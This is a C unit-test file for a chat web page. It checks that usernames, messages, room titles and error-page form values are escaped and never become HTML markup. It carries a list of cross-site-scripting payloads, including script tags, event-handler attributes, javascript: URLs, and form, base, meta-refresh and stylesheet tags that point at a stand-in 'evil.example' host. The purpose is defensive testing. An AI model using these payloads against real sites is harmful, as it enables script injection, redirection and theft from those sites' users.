/* What people wrote, as the chat page shows it: readable in any script, and never markup. */
#include "lib/secure.h"
#include "tests/lib/web.h"

#include <ctype.h>
#include <stdio.h>
#include <string.h>
#include <strings.h>

static const char page[] = "/stocks/chat/";

/* Ways in which text has become markup elsewhere. */
static const char *const payloads[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</bdi></p></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{config}} {{{message}}} {{#messages}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><input name=csrf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "x\xe2\x80\xa8<script>alert(1)</script>\xe2\x80\xa9x",
    "]]>\"}'></script><b>",
    "<ScRiPt\t>alert(1)</sCrIpT\t>",
    "<x onclick=alert(1)>y",
    "`-alert(1)-`${alert(1)}",
    "javascript:alert(1)",
};

/* ----- a small reader of tags: enough to see what a browser would take for one ----- */

struct tags {
    size_t count, scripts;
    uint64_t shape; /* of names and attribute names, in order */
};

static void mix(struct tags *t, const char *s, size_t len)
{
    for (size_t i = 0; i < len; i++)
        t->shape = (t->shape ^ (uint64_t)tolower((unsigned char)s[i])) * 1099511628211u;
}

static void check_value(const char *name, size_t name_len, const char *value, size_t len)
{
    bool is_url = (name_len == 4 && strncasecmp(name, "href", 4) == 0) ||
                  (name_len == 3 && strncasecmp(name, "src", 3) == 0) ||
                  (name_len == 6 && strncasecmp(name, "action", 6) == 0);

    if (is_url && len > 0 && !((*value == '/' || *value == '#') && !(len > 1 && value[1] == '/')))
        fail_msg("%.*s=\"%.*s\"", (int)name_len, name, (int)len, value);
}

/* From after '<' to after '>'. Attribute values in our templates are double-quoted. */
static const char *read_tag(struct tags *t, const char *p)
{
    const char *name = p;

    p += strcspn(p, " \t\n/>");
    mix(t, name, (size_t)(p - name));
    t->count++;
    t->scripts += p - name == 6 && strncasecmp(name, "script", 6) == 0;
    while (*p && *p != '>') {
        const char *attribute = p += strspn(p, " \t\n/");
        size_t len = strcspn(p, " \t\n/>=");

        p += len;
        mix(t, attribute, len);
        if (len >= 2 && strncasecmp(attribute, "on", 2) == 0)
            fail_msg("attribute %.*s", (int)len, attribute);
        if (len == 5 && strncasecmp(attribute, "style", 5) == 0)
            fail_msg("a style attribute");
        if (*p == '=') {
            const char *end = p[1] == '"' ? strchr(p + 2, '"') : NULL;

            assert_non_null(end);
            check_value(attribute, len, p + 2, (size_t)(end - p - 2));
            p = end + 1;
        }
    }
    return *p ? p + 1 : p;
}

static struct tags read_tags(const char *html)
{
    struct tags t = {.shape = 14695981039346656037u};

    for (const char *p = strchr(html, '<'); p; p = strchr(p, '<')) {
        p++;
        assert_true(isalpha((unsigned char)*p) || *p == '/' || strncmp(p, "!doctype", 8) == 0);
        if (*p == '/' || *p == '!') {
            p += strcspn(p, ">");
            continue;
        }
        p = read_tag(&t, p);
    }
    return t;
}

/* ----- */

/* Into the rows directly: what the rules would never let in must be harmless all the same. */
static void put(struct web *w, const char *column, const char *value, int64_t seq)
{
    struct buf sql;

    buf_init(&sql, 10000);
    buf_fmt(&sql, "UPDATE %s = '", column);
    for (const char *p = value; *p; p++)
        buf_str(&sql, *p == '\'' ? "''" : (char[]){*p, '\0'});
    buf_str(&sql, "'");
    if (seq)
        buf_fmt(&sql, " WHERE seq = %lld", (long long)seq);
    fixture_sql(w->fx, buf_cstr(&sql));
    buf_release(&sql);
}

static void post_as(struct web *w, const char *username, const char *text)
{
    char other[9];
    struct actor ana;

    secure_random_hex(other, 4);
    ana = fixture_guest(w->fx, other); /* whose messages keep the name that they have */
    put(w, "message SET author_name", username,
        fixture_post(w->fx, &ana, "general", text).message.seq);
}

static struct tags page_with(const char *name, const char *text, const char *title)
{
    struct web *w = web_open();
    struct tags tags;

    post_as(w, name, "said");
    put(w, "message SET body", text, 0); /* markup of our own making is test_markup's */
    put(w, "room SET title", title, 0);
    put(w, "room SET topic", title, 0);
    web_join(w, "eve");
    put(w, "user SET username", name, 0);
    web_json_request(w, "POST", "/api/stocks/chat/presence/",
                     "{\"conn\":\"abcdefgh\",\"state\":\"active\"}");
    assert_int_equal(w->status, 204);
    assert_int_equal(web_get(w, page), 200);
    tags = read_tags(web_text(w));
    web_close(w);
    return tags;
}

static void test_nothing_written_becomes_markup(void **state)
{
    struct tags plain = page_with("ana", "plain", "plain");

    (void)state;
    assert_int_equal(plain.scripts, 1); /* the module */
    for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
        struct tags t = page_with(payloads[i], payloads[i], payloads[i]);

        if (t.count != plain.count || t.shape != plain.shape)
            fail_msg("changed the page's tags: %s", payloads[i]);
    }
}

static void test_the_text_is_there_as_it_was_written(void **state)
{
    struct web *w = web_open();
    struct actor ana = fixture_user(w->fx, "7", "ana");

    (void)state;
    w->fx->conf.rate_user_burst = 100;
    for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
        struct buf escaped;

        fixture_post(w->fx, &ana, "general", payloads[i]);
        web_get(w, page);
        buf_init(&escaped, 10000);
        buf_html(&escaped, payloads[i], strlen(payloads[i]));
        if (!strstr(web_text(w), buf_cstr(&escaped)))
            fail_msg("not on the page: %s", payloads[i]);
        web_get(w, "/stocks/chat/?format=json");
        assert_string_equal(web_json_text(w, arena_fmt(&w->fx->arena, "messages.%zu.message", i)),
                            payloads[i]);
        buf_release(&escaped);
    }
    web_close(w);
}

static void test_the_error_page_escapes_what_it_keeps(void **state)
{
    struct web *w = web_open();
    struct tags plain;

    (void)state;
    web_form(w, "/api/stocks/chat/messages/create/", "message=plain&room=nope&username=eve");
    assert_int_equal(w->status, 404);
    plain = read_tags(web_text(w));
    for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
        struct buf form;
        struct tags t;

        buf_init(&form, 10000);
        buf_str(&form, "message=");
        buf_url(&form, payloads[i], strlen(payloads[i]));
        buf_str(&form, "&username=eve&room=");
        buf_url(&form, payloads[i], strlen(payloads[i]));
        buf_str(&form, "&client_id=");
        buf_url(&form, payloads[i], strlen(payloads[i]));
        web_form(w, "/api/stocks/chat/messages/create/", buf_cstr(&form));
        assert_in_range(w->status, 400, 404);
        t = read_tags(web_text(w));
        if (t.shape != plain.shape)
            fail_msg("changed the error page's tags: %s", payloads[i]);
        web_get(w, arena_fmt(&w->fx->arena, "/stocks/chat/r/x/?before=%s", buf_cstr(&form) + 8));
        read_tags(web_text(w));
        buf_release(&form);
    }
    web_close(w);
}

static void test_names_of_any_script_have_an_initial(void **state)
{
    static const struct {
        const char *name, *initial;
    } cases[] = {
        {"ana", "A"},
        {"Ärger", "Ä"},
        {"日本", "日"},
        {"7up", "7"},
        {"\xf0\x9f\x98\x80x", "\xf0\x9f\x98\x80"},
    };
    struct web *w = web_open();

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        post_as(w, cases[i].name, "x");
    web_get(w, "/stocks/chat/?format=json");
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        assert_string_equal(web_json_text(w, arena_fmt(&w->fx->arena, "messages.%zu.initial", i)),
                            cases[i].initial);
    web_close(w);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_nothing_written_becomes_markup),
        cmocka_unit_test(test_the_text_is_there_as_it_was_written),
        cmocka_unit_test(test_the_error_page_escapes_what_it_keeps),
        cmocka_unit_test(test_names_of_any_script_have_an_initial),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
